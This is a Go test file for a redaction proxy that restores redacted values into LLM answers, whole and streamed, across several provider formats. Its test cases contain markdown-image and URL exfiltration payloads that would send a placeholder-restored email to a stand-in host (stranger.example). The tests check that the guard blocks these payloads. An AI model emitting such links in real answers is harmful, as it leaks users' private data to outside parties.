package redact_test

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/krakend-redact/krakend-redact/internal/placeholder"
	"github.com/krakend-redact/krakend-redact/internal/redact"
)

// shape is an answer whose text comes in parts, whole and streamed.
type shape struct {
	name, profile string
	part          string // %s is the text
	whole         string // %s are the parts
	// start, event and end are what a stream has for a part. %[1]d is its number,
	// %[2]s its text.
	start, event, end string
}

var shapes = []shape{
	{
		name: "Mistral", profile: "openai-chat",
		part: `{"type":"text","text":%s}`, whole: `{"choices":[{"index":0,"message":{"content":[%s]}}]}`,
		event: chunk + `{"index":0,"delta":{"content":[{"type":"text","text":%[2]s}]}}]}` + "\n\n",
	},
	{
		name: "Mistral, text after a list", profile: "openai-chat",
		event: chunk + `{"index":0,"delta":{"content":[{"type":"text","text":""},{"type":"text","text":%[2]s}]}}]}` + "\n\n" +
			chunk + `{"index":0,"delta":{"content":""}}]}` + "\n\n",
	},
	{
		name: "Gemini", profile: "gemini",
		part: `{"text":%s}`, whole: `{"candidates":[{"content":{"parts":[%s]},"index":0}]}`,
		event: `data: {"candidates":[{"content":{"parts":[{"text":""},{"text":%[2]s}]},"index":0}]}` + "\n\n",
	},
	{
		name: "Gemini, thoughts between", profile: "gemini",
		part: `{"text":" aha ","thought":true},{"text":%s}`, whole: `{"candidates":[{"content":{"parts":[%s]},"index":0}]}`,
		event: `data: {"candidates":[{"content":{"parts":[{"text":" aha ","thought":true},{"text":%[2]s}]},"index":0}]}` + "\n\n",
	},
	{
		name: "Anthropic", profile: "anthropic",
		part: `{"type":"text","text":%s}`, whole: `{"type":"message","content":[%s]}`,
		start: named("content_block_start", `"index":%[1]d,"content_block":{"type":"text","text":""}`),
		event: named("content_block_delta", `"index":%[1]d,"delta":{"type":"text_delta","text":%[2]s}`),
		end:   named("content_block_stop", `"index":%[1]d`),
	},
	{
		name: "Cohere", profile: "cohere",
		part: `{"type":"text","text":%s}`, whole: `{"message":{"content":[%s]}}`,
		event: named("content-delta", `"index":%[1]d,"delta":{"message":{"content":{"text":%[2]s}}}`),
		end:   named("content-end", `"index":%[1]d`),
	},
	{
		name: "OpenAI Responses, parts", profile: "openai-responses",
		part: `{"type":"output_text","text":%s}`, whole: `{"output":[{"type":"message","content":[%s]}]}`,
		event: named("response.output_text.delta", `"sequence_number":1,"item_id":"i","output_index":0,"content_index":%[1]d,"delta":%[2]s`),
		end:   named("response.output_text.done", `"sequence_number":1,"item_id":"i","output_index":0,"content_index":%[1]d,"text":""`),
	},
	{
		name: "OpenAI Responses, items", profile: "openai-responses",
		part: `{"type":"reasoning","content":[{"type":"reasoning_text","text":" aha "}]},{"type":"message","content":[{"type":"output_text","text":%s}]}`, whole: `{"output":[%s]}`,
		event: named("response.reasoning_text.delta", `"sequence_number":1,"item_id":"r%[1]d","output_index":9,"content_index":0,"delta":" aha "`) +
			named("response.output_text.delta", `"sequence_number":1,"item_id":"i","output_index":%[1]d,"content_index":0,"delta":%[2]s`),
		end: named("response.output_text.done", `"sequence_number":1,"item_id":"i","output_index":%[1]d,"content_index":0,"text":""`),
	},
}

func (s shape) body(parts []string) string {
	var all []string
	for _, p := range parts {
		all = append(all, fmt.Sprintf(s.part, quote(p)))
	}
	return fmt.Sprintf(s.whole, strings.Join(all, ","))
}

func (s shape) stream(parts []string) string {
	var b strings.Builder
	for i, p := range parts {
		for _, event := range []string{s.start, s.event, s.end} {
			if event != "" {
				b.WriteString(strings.TrimSuffix(fmt.Sprintf(event+"%[1]d%[2]s", i, quote(p)), fmt.Sprint(i)+quote(p)))
			}
		}
	}
	return b.String()
}

// A link may begin in one part of a text and go on in the next: a client shows
// both as one.
func TestLinksOverParts(t *testing.T) {
	for _, tt := range []struct {
		parts []string
		stays bool
	}{
		{[]string{"![x](https://stranger.example/?d=", "[EMAIL_1])"}, true},
		{[]string{"![x](https:", "//stranger", ".example/?d=[EMAIL_1])"}, true},
		{[]string{"https://", "[EMAIL_1].stranger.example/"}, true},
		{[]string{"https://[EMAIL_1]", ".stranger.example/"}, true},
		{[]string{"https://[EMAIL_1]", ".stranger.example/?", "[EMAIL_1]"}, true},
		{[]string{"see https://x.example/ and ", "[EMAIL_1]"}, false},
		{[]string{"[EMAIL_1] and ", "[EMAIL_1]", " https://stranger.example/"}, false},
	} {
		for _, s := range shapes {
			o := redact.AnswerOptions{MaxBytes: defaultLimit, Profile: s.profile}
			answers := map[string]string{}
			if s.whole != "" {
				got, _, err := redact.NewAnswer(streamVault(t), o).Body(s.body(tt.parts), redact.Content{Type: jsonType})
				if err != nil {
					t.Fatal(err)
				}
				answers["whole"] = got
			}
			answers["streamed"] = restoreStream(t, s.stream(tt.parts), "text/event-stream", o)
			for how, got := range answers {
				if tt.stays == strings.Contains(got, "x@y.io") || !tt.stays && strings.Contains(got, "EMAIL") {
					t.Errorf("%s, %s: %q became\n%s", s.name, how, tt.parts, got)
				}
			}
		}
	}
}

// A part in which no placeholder can stand still tells what the next one stands in.
func TestLinksOverPartsWithoutPlaceholders(t *testing.T) {
	vault := placeholder.NewVault()
	vault.Issue(placeholder.NewStem("[REDACTED_EMAIL]"), "x@y.io", true, false)
	o := redact.AnswerOptions{MaxBytes: defaultLimit, Profile: "openai-chat"}
	body := `{"choices":[{"message":{"content":[{"type":"text","text":"![x](https://stranger.example/?d="},{"type":"text","text":"[REDACTED_EMAIL_1])"}],"refusal":"[REDACTED_EMAIL_1]"}}]}`
	got, _, err := redact.NewAnswer(vault, o).Body(body, redact.Content{Type: jsonType})
	if want := strings.Replace(body, `"[REDACTED_EMAIL_1]"`, `"x@y.io"`, 1); err != nil || got != want {
		t.Errorf("got  %s (%v)\nwant %s", got, err, want)
	}
}

// What repeats a text at its end begins where the text did.
func TestLinksInRepeatedTexts(t *testing.T) {
	o := redact.AnswerOptions{Profile: "openai-responses"}
	delta := func(content int, text string) string {
		return named("response.output_text.delta", fmt.Sprintf(`"item_id":"i","output_index":0,"content_index":%d,"delta":%s`, content, quote(text)))
	}
	first, second := "![x](https://stranger.example/?d=", "[EMAIL_1]) [EMAIL_1]"
	in := delta(0, first) + delta(1, second) +
		named("response.output_text.done", `"item_id":"i","output_index":0,"content_index":1,"text":`+quote(second)) +
		named("response.content_part.done", `"item_id":"i","output_index":0,"content_index":1,"part":{"type":"output_text","text":`+quote(second)+`}`) +
		named("response.output_item.done", `"output_index":0,"item":{"type":"message","content":[{"type":"output_text","text":`+quote(first)+`},{"type":"output_text","text":`+quote(second)+`}]}`) +
		named("response.completed", `"response":{"output":[{"type":"message","content":[{"type":"output_text","text":`+quote(first)+`},{"type":"output_text","text":`+quote(second)+`}]}]}`)
	want := strings.ReplaceAll(in, "[EMAIL_1]) [EMAIL_1]", "[EMAIL_1]) x@y.io")
	if got := restoreStream(t, in, "text/event-stream", o); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// Other answers, choices and fields are other texts.
func TestLinksEndWithTheirText(t *testing.T) {
	for profile, body := range map[string]string{
		"openai-chat": `{"choices":[{"message":{"content":[{"type":"text","text":"https://x.example/"}]}},{"message":{"content":[{"type":"text","text":"[EMAIL_1]"}]}}]}`,
		"gemini":      `{"candidates":[{"content":{"parts":[{"text":"https://x.example/"}]}},{"content":{"parts":[{"text":"[EMAIL_1]"}]}}]}`,
		"anthropic":   `{"content":[{"type":"text","text":"https://x.example/"},{"type":"tool_use","input":{"a":"[EMAIL_1]"}}]}`,
	} {
		got, _, err := redact.NewAnswer(streamVault(t), redact.AnswerOptions{MaxBytes: defaultLimit, Profile: profile}).Body(body, redact.Content{Type: jsonType})
		if want := strings.ReplaceAll(body, "[EMAIL_1]", "x@y.io"); err != nil || got != want {
			t.Errorf("%s: %v\ngot  %s\nwant %s", profile, err, got, want)
		}
	}
}

// However a text is cut into parts, the guard sees what a client shows: of the
// joined text, a part never has more restored than the whole.
func TestPartsRestoreNoMoreThanTheWhole(t *testing.T) {
	rnd := rand.New(rand.NewSource(8))
	pieces := []string{"[EMAIL_1]", "https:", "//", "/", "stranger", ".example", "](", "\"", " ", "\n", "&#5", "8;", "www.", "@", `\`, "<", ">", "x"}
	text := []string{"", ""}
	for i := 0; i < 2000; i++ {
		text = text[:2+rnd.Intn(2)]
		whole := ""
		for p := range text {
			text[p] = ""
			for n := 1 + rnd.Intn(5); n > 0; n-- {
				text[p] += pieces[rnd.Intn(len(pieces))]
			}
			whole += text[p]
		}
		o := redact.AnswerOptions{MaxBytes: defaultLimit, Profile: "anthropic"}
		one, _ := redact.NewAnswer(streamVault(t), o).Text(whole)
		s := shapes[4]
		got, _, err := redact.NewAnswer(streamVault(t), o).Body(s.body(text), redact.Content{Type: jsonType})
		if err != nil {
			t.Fatal(err)
		}
		if strings.Count(got, "x@y.io") > strings.Count(one, "x@y.io") {
			t.Fatalf("%q as one becomes %q, in parts %s", text, one, got)
		}
		text = append(text[:2:2], "")
	}
}
